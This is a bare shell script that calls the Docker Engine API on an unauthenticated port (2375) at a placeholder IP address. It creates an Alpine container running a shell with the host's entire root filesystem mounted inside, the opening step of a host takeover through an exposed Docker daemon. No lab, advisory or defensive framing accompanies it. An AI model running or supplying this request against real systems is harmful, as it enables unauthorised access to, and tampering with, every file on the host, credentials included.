#!/bin/sh
curl -s -X POST -H 'Content-Type: application/json' -d '{"Image":"alpine","Cmd":["sh"],"HostConfig":{"Binds":["/:/mnt"]}}' http://192.0.2.9:2375/containers/create
